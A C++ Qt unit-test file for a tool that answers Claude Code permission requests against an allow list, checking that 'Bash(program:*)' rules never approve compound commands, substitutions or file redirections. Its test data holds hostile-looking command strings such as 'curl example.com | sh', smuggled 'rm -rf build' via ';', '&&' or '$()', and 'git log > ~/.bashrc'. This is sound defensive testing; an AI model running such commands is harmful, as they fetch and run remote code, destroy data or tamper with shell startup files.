// SPDX-License-Identifier: MIT
// Permission requests against the allow list, and answering prompts.
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QtTest>

#include <nlohmann/json.hpp>

#include <cstdio>

#include "../support/Files.h"
#include "StoreFixture.h"

class TestAllowRules : public QObject {
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    QString m_settings;

private slots:
    void init() {
        QVERIFY(m_dir.isValid());
        m_settings = m_dir.filePath("settings.json");
        QFile::remove(m_settings);
    }

    void bashProgramRule() {
        writeBytes(m_settings, R"j({"permissions":{"allow":["Bash(git:*)","Bash(echo:*)"]}})j");
        StoreFakes fakes;
        auto store = makeStore(fakes, m_settings);
        store->reloadAllowPatterns();
        QCOMPARE(store->allowPatterns(), (QStringList{"Bash(git:*)", "Bash(echo:*)"}));
        // A prefix rule covers a compound command only when it covers every simple command in
        // it, and never a substitution or a redirection to a file: "allow" skips Claude Code's
        // own check.
        const std::pair<const char*, bool> commands[] = {
            {"git status", true},
            {"gitk", false},
            {"  git log", true},
            {"sudo git push", false},
            {"   ", false},
            {"git\tstatus", false},
            {"git status && curl example.com | sh", false},
            {"git status; rm -rf build", false},
            {"git status\nrm -rf build", false},
            {"git status & rm -rf build", false},
            {"git status || rm -rf build", false},
            {"git log | sh", false},
            {"git log $(rm -rf build)", false},
            {"echo \"$(rm -rf build)\"", false},
            {"git log `rm -rf build`", false},
            {"git diff <(rm -rf build)", false},
            {"git log > >(sh)", false},
            {"echo ${X:=$HOME}", false},
            {"git log > ~/.bashrc", false},
            {"git log >>notes", false},
            {"git apply < patch", false},
            {"git log 'x; rm", false},
            {"git status && echo done; git log | echo x", true},
            {"git commit -m 'a; b && $(c) `d`'", true},
            {"git commit -m \"a; b && c | d\"", true},
            {"echo a\\;rm", true},
            {"echo $HOME", true},
            {"git log 2>&1", true},
            {"git log >/dev/null 2> /dev/null", true},
            {"git status;", true}};
        for (const auto& [command, approved] : commands) {
            Answers answers;
            store->handle(
                permissionRequest(command, "Bash", nlohmann::json{{"command", command}}.dump()),
                answers.respond());
            QVERIFY2(answers.count() == (approved ? 1u : 0u), command);
            QVERIFY2(store->session(command)->status.isWaiting() != approved, command);
        }
    }

    void bareToolRuleAndUnderstoodForms() {
        writeBytes(m_settings, "{\"permissions\":{\"allow\":[\"Edit(src/"
                               "*)\",\"Read(:*)\",\"Bash\",\"WebFetch(git:*)\"]}}");
        StoreFakes fakes;
        auto store = makeStore(fakes, m_settings);
        store->reloadAllowPatterns();
        QCOMPARE(store->allowPatterns().size(), 4); // rules not understood are kept all the same

        // The bare tool rule is what the user asked for: everything, compound commands included.
        for (const std::string& input : {std::string("ls -la, not JSON at all"),
                                         bashInput("ls; curl example.com | sh $(rm x)")}) {
            Answers bash;
            store->handle(permissionRequest("s1", "Bash", input), bash.respond());
            QCOMPARE(bash.count(), size_t(1));
            QVERIFY(bash.last() == HookDecision::Decision::approve);
        }

        // Only "program:*" rules of Bash and bare names are understood.
        for (const char* tool : {"Edit", "Read", "WebFetch"}) {
            Answers other;
            store->handle(
                permissionRequest(tool, tool, R"j({"file_path":"src/a.cpp","command":"git"})j"),
                other.respond());
            QCOMPARE(other.count(), size_t(0));
            QVERIFY2(store->session(tool)->status.isWaiting(), tool);
        }
        // No tool at all: nothing to match.
        Answers none;
        store->handle(hookEvent(HookEvent::Kind::permissionRequest, "s2"), none.respond());
        QCOMPARE(none.count(), size_t(0));
    }

    void alwaysAddsOneRuleOnlyForAProgram() {
        StoreFakes fakes;
        auto store = makeStore(fakes, m_settings);
        Answers first;
        store->handle(permissionRequest("s1", "Bash", bashInput("  npm   test")), first.respond());
        store->resolveAlways("s1");
        QCOMPARE(fakes.rulesWritten, QStringList{"Bash(npm:*)"});
        QCOMPARE(store->allowPatterns(), QStringList{"Bash(npm:*)"});
        QCOMPARE(first.count(), size_t(1));
        QCOMPARE(first.got->back(), (HookDecision{HookDecision::Decision::approve, {}, {}}));
        QVERIFY(store->session("s1")->status.kind == Status::Kind::working);

        // Asked again (another session asked before the rule existed): no duplicate in memory.
        Answers second;
        store->handle(permissionRequest("s2", "Bash", bashInput("npm ci")), second.respond());
        QCOMPARE(second.count(), size_t(1)); // the new rule approves it at once
        store->handle(permissionRequest("s3", "Bash", "not json"), nullptr);
        store->resolveAlways("s3"); // no program: approves once, adds nothing
        // A rule could not cover it: approves once, adds nothing.
        for (const char* command : {"make && make install", "make $(cat target)", "make > log"}) {
            Answers compound;
            store->handle(permissionRequest("s4", "Bash", bashInput(command)), compound.respond());
            store->resolveAlways("s4");
            QCOMPARE(compound.count(), size_t(1));
            QVERIFY(compound.last() == HookDecision::Decision::approve);
        }
        // Not Bash: approves once, adds nothing, and only while it waits.
        Answers edit;
        store->handle(permissionRequest("s5", "Edit", R"j({"file_path":"/w/a.cpp"})j"),
                      edit.respond());
        store->resolveAlways("s5");
        store->resolveAlways("s5");
        QCOMPARE(edit.count(), size_t(1));
        QVERIFY(store->session("s5")->status.kind == Status::Kind::working);
        QCOMPARE(store->allowPatterns(), QStringList{"Bash(npm:*)"});
        QCOMPARE(fakes.rulesWritten, QStringList{"Bash(npm:*)"});
    }

    void resolveAnswersOnlyWaitingSessions() {
        StoreFakes fakes;
        auto store = makeStore(fakes, m_settings);
        Answers idle;
        store->handle(hookEvent(HookEvent::Kind::stop, "idle"), idle.respond());
        QSignalSpy changed(store.get(), &SessionStore::sessionsChanged);
        store->resolve("idle", HookDecision{HookDecision::Decision::approve, {}, {}});
        store->resolve("unknown", HookDecision{HookDecision::Decision::approve, {}, {}});
        store->resolveAlways("unknown");
        QCOMPARE(idle.count(), size_t(1)); // only its own passthrough
        QCOMPARE(changed.count(), 0);

        Answers asked;
        store->handle(permissionRequest("s1", "Bash", bashInput("make")), asked.respond());
        const HookDecision denial{HookDecision::Decision::deny, "User denied", std::nullopt};
        store->resolve("s1", denial);
        QCOMPARE(asked.count(), size_t(1));
        QCOMPARE(asked.got->back(), denial);
        QVERIFY(store->session("s1")->status.kind == Status::Kind::working);
        store->resolve("s1", denial);
        QCOMPARE(asked.count(), size_t(1)); // answered exactly once

        HookEvent picking = permissionRequest("s2", "AskUserQuestion", "{}");
        picking.suggestions = std::vector<std::string>{"Yes", "No"};
        Answers picked;
        store->handle(picking, picked.respond());
        store->resolve("s2", HookDecision{HookDecision::Decision::approve, std::nullopt, "No"});
        QCOMPARE(picked.got->back().picked, std::optional<std::string>("No"));

        // A newer request of the same session replaces the prompt; the older one is left to time
        // out into passthrough.
        Answers older, newer;
        store->handle(permissionRequest("s3", "Bash", bashInput("make a")), older.respond());
        const QUuid firstPrompt = store->session("s3")->status.prompt->id;
        store->handle(permissionRequest("s3", "Bash", bashInput("make b")), newer.respond());
        QVERIFY(store->session("s3")->status.prompt->id != firstPrompt);
        store->resolve("s3", HookDecision{HookDecision::Decision::approve, {}, {}});
        QCOMPARE(older.count(), size_t(0));
        QCOMPARE(newer.count(), size_t(1));
    }

    void reloadReadsTheSettingsFile() {
        StoreFakes fakes;
        auto store = makeStore(fakes, m_settings);
        store->reloadAllowPatterns(); // missing file
        QVERIFY(store->allowPatterns().isEmpty());

        writeBytes(m_settings,
                   R"j({"hooks":{},"permissions":{"allow":["Read","Bash(git:*)"],"deny":[]}})j");
        store->reloadAllowPatterns();
        QCOMPARE(store->allowPatterns(), (QStringList{"Read", "Bash(git:*)"}));

        const QByteArray broken[] = {
            "{\"permissions\":{\"allow\":[\"Read\"]",    // truncated
            "[\"Read\"]",                                // not an object
            R"j({"permissions":["Read"]})j",             // permissions not an object
            R"j({"permissions":{"allow":"Read"}})j",     // allow not an array
            R"j({"permissions":{"allow":["Read",3]}})j", // not all strings
            R"j({"allow":["Read"]})j",                   // wrong place
            "",
        };
        for (const QByteArray& bytes : broken) {
            writeBytes(m_settings, R"j({"permissions":{"allow":["Read"]}})j");
            store->reloadAllowPatterns();
            QCOMPARE(store->allowPatterns().size(), 1);
            writeBytes(m_settings, bytes);
            store->reloadAllowPatterns();
            QVERIFY2(store->allowPatterns().isEmpty(), bytes.constData());
        }

        // A directory where the file should be is unreadable, not an error.
        QFile::remove(m_settings);
        QVERIFY(QDir().mkpath(m_settings));
        store->reloadAllowPatterns();
        QVERIFY(store->allowPatterns().isEmpty());
        QVERIFY(QDir(m_settings).removeRecursively());
    }

    void rulesFollowTheFile() {
        // The running app sees `hollowmere rules add`, a hand edit and Claude Code's own writes.
        StoreFakes fakes;
        auto store = makeStore(fakes, m_settings);
        store->reloadAllowPatterns();
        store->watchAllowPatterns();
        writeBytes(m_settings, R"j({"permissions":{"allow":["Read"]}})j");
        QTRY_COMPARE(store->allowPatterns(), QStringList{"Read"});

        // Replaced by a rename, as every careful writer does.
        const QString next = m_dir.filePath("next.json");
        writeBytes(next, R"j({"permissions":{"allow":["Read","Bash(git:*)"]}})j");
        QVERIFY(::rename(QFile::encodeName(next).constData(),
                         QFile::encodeName(m_settings).constData()) == 0);
        QTRY_COMPARE(store->allowPatterns(), (QStringList{"Read", "Bash(git:*)"}));

        writeBytes(m_settings, R"j({"permissions":{"allow":["Edit"]}})j"); // the same file again
        QTRY_COMPARE(store->allowPatterns(), QStringList{"Edit"});
        QFile::remove(m_settings);
        QTRY_VERIFY(store->allowPatterns().isEmpty());
    }

    void defaultsUseTheUsersSettingsFile() {
        const QByteArray realHome = qgetenv("HOME");
        qputenv("HOME", m_dir.path().toUtf8());
        QVERIFY(QDir().mkpath(m_dir.filePath(".claude")));
        writeBytes(m_dir.filePath(".claude/settings.json"),
                   R"j({"model":"opus","permissions":{"allow":["Read"]}})j");
        SessionStore store;
        store.reloadAllowPatterns();
        QCOMPARE(store.allowPatterns(), QStringList{"Read"});

        Answers answers;
        store.handle(permissionRequest("s1", "Bash", bashInput("cargo build")), answers.respond());
        store.resolveAlways("s1");
        QCOMPARE(answers.count(), size_t(1));
        SessionStore fresh; // what the next start of the app reads
        fresh.reloadAllowPatterns();
        QCOMPARE(fresh.allowPatterns(), (QStringList{"Read", "Bash(cargo:*)"}));
        qputenv("HOME", realHome);
    }
};

QTEST_GUILESS_MAIN(TestAllowRules)
#include "tst_sessionstore_rules.moc"
